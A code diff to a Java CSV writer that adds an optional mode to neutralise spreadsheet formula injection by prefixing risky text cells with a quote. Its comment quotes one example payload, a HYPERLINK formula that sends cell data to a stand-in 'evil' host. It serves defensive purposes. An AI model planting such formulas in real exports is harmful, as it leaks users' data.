@@ -28,6 +28,14 @@ public final class CsvSink {
 
   /** Writes {@code header} and the rows' values in column order; returns the number of rows written. */
   public static long write(Path file, List<String> header, Iterator<Row> rows) {
+    return write(file, header, rows, false);
+  }
+
+  /**
+   * As {@link #write(Path, List, Iterator)}; with {@code excelSafe} a text cell that starts with {@code = + - @},
+   * a tab or a carriage return gets a leading {@code '} (see {@link #excelSafe}). Numbers are never changed.
+   */
+  public static long write(Path file, List<String> header, Iterator<Row> rows, boolean excelSafe) {
     long count = 0;
     try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8);
          CSVPrinter printer = new CSVPrinter(out, FORMAT)) {
@@ -36,7 +44,7 @@ public final class CsvSink {
       while (rows.hasNext()) {
         Row r = rows.next();
         for (int i = 0; i < values.length; i++) {
-          values[i] = cell(r.get(i));
+          values[i] = cell(excelSafe ? excelSafe(r.get(i)) : r.get(i));
         }
         printer.printRecord(values);
         count++;
@@ -45,6 +53,20 @@ public final class CsvSink {
       throw new java.io.UncheckedIOException("cannot write " + file, e);
     }
     return count;
+  }
+
+  /**
+   * Neutralises spreadsheet formula injection (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets run a
+   * cell that starts with {@code = + - @} (or a tab or carriage return before one) as a formula, so a title such
+   * as {@code =HYPERLINK("http://evil/?"&A1)} in an article could leak data or run commands when the CSV is
+   * opened. A leading {@code '} makes the spreadsheet show the text as it is. Only text is changed: numbers come
+   * as Double or Long and stay numbers ({@code -0.5} stays {@code -0.5}).
+   */
+  static Object excelSafe(Object cell) {
+    if (cell instanceof String s && !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0) {
+      return "'" + s;
+    }
+    return cell;
   }
 
   private static Object cell(Object v) {
